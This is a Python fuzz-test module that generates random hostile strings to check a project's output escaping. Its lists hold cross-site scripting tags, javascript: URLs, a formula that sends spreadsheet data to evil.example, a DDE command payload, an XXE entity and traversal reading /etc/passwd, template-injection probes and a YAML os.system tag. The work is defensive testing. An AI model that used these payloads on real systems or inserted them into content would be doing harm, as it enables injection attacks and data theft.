"""A generated corpus of hostile text for the fuzz test: fragments that attack HTML, URLs, Markdown, templates,
spreadsheets, plotly, JSON-in-script, XML and YAML, and Unicode that is legal but unusual, combined at random;
plus characters that must be refused. Our own lists, written for gongshi's outputs, not a public list.

`{n}` in a fragment becomes a number, so that an alert or a request that ever fired would say which sample.
"""

from __future__ import annotations

import random
import re

from gongshi.text import UNSAFE, find_unsafe_markup

HTML = [
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})><circle r=9></svg>",
    '<iframe src="javascript:alert({n})"></iframe>',
    '<a href="javascript:alert({n})">点我</a>',
    "<details open ontoggle=alert({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    '<form action="https://evil.example/{n}"><button>提交</button></form>',
    "<object data=javascript:alert({n})></object><embed src=//evil.example/{n}.swf>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/{n}">',
    '<link rel=stylesheet href="//evil.example/{n}.css">',
    "<style>@import '//evil.example/{n}.css';*{{display:none}}</style>",
    "<template><script>alert({n})</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "</textarea></title></style></script><script>alert({n})</script>",
    "<!--<script>alert({n})</script>--!>",
    "<![CDATA[<script>alert({n})</script>]]>",
    "<x onmouseover=alert({n})>悬停</x>",
    "<video><source onerror=alert({n})></video>",
    "<input autofocus onfocus=alert({n})>",
    "<select><option><img src=x onerror=alert({n})></option></select>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>",
    '<img srcset="//evil.example/{n}.png 1x">',
]
BREAKOUTS = [
    '"',
    "'",
    "`",
    '"><',
    "'><",
    '" onmouseover="alert({n})',
    "' autofocus onfocus='alert({n})",
    '\\"',
    "&quot;&gt;",
]
URLS = [
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\u00adscript:alert({n})",
    "jav&#x09;ascript:alert({n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox({n})",
    "//evil.example/{n}",
    "/\\evil.example/{n}",
    "\\\\evil.example\\{n}",
    "https://evil.example/{n}",
    "file:///etc/passwd",
    "../../../../etc/passwd",
]
MARKDOWN = [
    "[点我](javascript:alert({n}))",
    "![图](//evil.example/{n}.png)",
    "![图](/\\evil.example/{n}.png)",
    "![图](https://evil.example/{n}.png)",
    "<javascript:alert({n})>",
    "[r][k{n}]\n\n[k{n}]: javascript:alert({n})",
    "# 假标题",
    "> 引用",
    "```\n代码 <script>alert({n})</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert({n})> | d |",
    "* 列表\n* 项",
    "1. 一\n2. 二",
    "**粗**_斜_`码`",
    "\n---\n",
    "[^{n}]",
    '<div markdown="1">*x*</div>',
    "[x](<javascript:alert({n})>)",
    "![x](data:image/svg+xml,<svg onload=alert({n})>)",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{#",
    "%s%n",
    "{0.__class__}",
]
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1", "=1"]
PLOTLY = [
    "<b>粗</b>",
    "<br>",
    "<i>斜</i>",
    "<sub>1</sub><sup>2</sup>",
    '<span style="color:red;font-size:99px">大</span>',
    '<a href="https://evil.example/{n}">链接</a>',
    "&lt;b&gt;",
    "&#60;a&#62;",
    "$x^2$",
    "%{y}",
    "%{customdata[0]}",
]
SCRIPT = ["</script>", "\\u003c/script>", '"};alert({n});//', "'];alert({n});//", "\\", "\\n", "${alert({n})}"]
XML = [
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp;",
    "&#0;",
    "&#xFFFE;",
]
YAMLISH = [
    ": ",
    "- ",
    "&a",
    "*a",
    "!!python/object:os.system",
    "? ",
    "---",
    "...",
    "# 注释",
    "|",
    "'",
    '"',
    "null",
    "0x1F",
    "2025-02-30",
]
UNICODE = [
    "\u200f",
    "\u200e",
    "\u061c",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "e\u0301",
    "\U0001f3d7\ufe0f",
    "👨\u200d👩\u200d👧\u200d👦",
    "🇨🇳",
    "𠀀𪚥",
    "ꆈꌠꁱꂷ",
    "བོད་",
    "ئۇيغۇر",
    "עברית",
    "العربية",
    "Ｆｕｌｌ　ｗｉｄｔｈ",
    "\u3000",
    "\u00a0",
    "\ue000",
    "𝐀𝐁",
    "\ufffd",
    "﷽",
    "Z\u0334\u0321\u031b\u0332a\u0337\u0327l\u0336g\u0337o",
    "¹²³①②٣",
]
POOLS = [HTML, BREAKOUTS, URLS, MARKDOWN, TEMPLATES, FORMULAS, PLOTLY, SCRIPT, XML, YAMLISH, UNICODE]

# Refused wherever they appear (gongshi.text.UNSAFE), one per refused sample.
REFUSED = (
    [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"]
    + ["\x7f", "\x85", "\x9b", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"]
    + ["\u2069", "\u2028", "\u2029", "\ufdd0", "\ufdef", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff"]
)
assert all(UNSAFE.fullmatch(c) for c in REFUSED)
BLANK = ["\u200b", "\u200b\u200c", "\u3164", "\u2800", "\u2060\u200d"]  # names of nothing visible


class Corpus:
    """Random hostile strings from a seeded generator."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.count = 0

    def fragment(self) -> str:
        pool = self.rng.choice(POOLS)
        return self.rng.choice(pool).replace("{n}", str(self.rng.randrange(1000)))

    def marker(self) -> str:
        """The marker of the latest string: where it landed can be found in any output."""
        return f"GSF{self.count}Z"

    def text(self, limit: int, one_line: bool = False, formula: bool = True) -> str:
        """A publishable hostile string of at most `limit` characters, marked (at its start, or at its end when
        it starts with a spreadsheet formula)."""
        self.count += 1
        marker = self.marker()
        parts = [self.fragment() for _ in range(self.rng.randint(1, 5))]
        if formula and self.rng.random() < 0.2:  # a formula only works at the start
            parts.insert(0, self.rng.choice(FORMULAS))
            marker_first = False
        else:
            marker_first = True
        if self.rng.random() < 0.1:
            parts.append(self.rng.choice(["长" * 150, "W" * 2000, "<" * 300, "&" * 200, "[" * 100, "`" * 16]))
        text = self.rng.choice(["", " ", "\n"] if not one_line else ["", " "]).join(parts)
        if one_line:
            text = " ".join(text.split())
        text = (marker + text) if marker_first else (text + marker)
        if len(text) > limit:
            text = marker + text.replace(marker, "")[: limit - len(marker)]
        return text

    def body(self) -> str:
        """A Markdown body within the limits the model sets on bodies (no 17 backticks, 41 indents …)."""
        while True:
            body = "\n\n".join(self.text(4000) for _ in range(self.rng.randint(1, 3)))
            if (
                not re.search(r"`{17,}|^[ \t>]{41,}", body, re.M)
                and body.count("[") <= 1000
                and find_unsafe_markup(body) is None  # &#xFFFE; in Markdown is the character itself: refused
            ):
                return body

    def refused(self, limit: int, markup: bool = False) -> tuple[str, str, str]:
        """A string with one character that must be refused: (the string, the character, how it is written —
        itself, or in Markdown (`markup`) sometimes as a character reference like &#x202E;)."""
        char = self.rng.choice(REFUSED)
        written = f"&#x{ord(char):X};" if markup and self.rng.random() < 0.4 else char
        text = self.text(limit - len(written), one_line=True, formula=False)
        text = text.replace("&#", "&amp;#")  # no other reference to a refused character
        at = self.rng.randint(len(self.marker()), len(text))
        while text[:at].endswith("&") or text[:at].endswith("&amp"):
            at -= 1
        return text[:at] + written + text[at:], char, written
